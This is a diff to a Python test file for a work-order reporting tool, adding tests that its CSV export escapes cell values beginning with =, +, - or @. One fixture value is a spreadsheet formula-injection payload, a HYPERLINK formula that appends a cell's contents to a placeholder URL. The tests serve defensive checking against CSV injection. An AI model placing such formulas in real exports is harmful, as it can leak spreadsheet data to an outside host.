@@ -44,7 +44,7 @@ def test_work_order_time_cost_and_billable_value():
     assert warranty.billable_value == 0 and not warranty.billable
     assert rows["WO-7"].technicians == 2 and rows["WO-7"].billable_value > 0
     customers = {c.customer: c for c in customer_totals(rows.values())}
-    assert customers["Northside Clinic"].cost == Decimal("169.00")
+    assert customers[scenario.WORK_ORDERS["WO-9"].customer].cost == Decimal("169.00")
 
 
 def test_overtime_and_exceptions_per_week_and_depot():
@@ -81,4 +81,22 @@ def test_each_report_writes_a_csv_with_a_header_row():
         count = write_csv(rows, out, row_type)
         read = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
         assert len(read) == count > 0
+        if row_type is WorkOrderRow:
+            customers = {r["work_order"]: r["customer"] for r in read}
     assert read[-1]["name"] == "all technicians"
+    # issue 17 #7 (CWE-1236): a customer named as a formula is shown as text
+    assert customers["WO-9"] == """'=HYPERLINK("http://x"&A1,"Click")"""
+    assert customers["WO-12"] == "'+Harbor Foods, Inc." and customers["WO-7"] == "Lakeview Dental"
+
+
+def test_report_csvs_neutralise_text_but_not_negative_numbers():
+    from dataclasses import dataclass
+
+    @dataclass
+    class Row:
+        name: str
+        net_minutes: Decimal
+
+    out = io.StringIO(newline="")
+    write_csv([Row("-1 Chen", Decimal("-4")), Row("@x\tb", Decimal("2"))], out, Row)
+    assert out.getvalue().splitlines()[1:] == ["'-1 Chen,-4", "'@x\tb,2"]
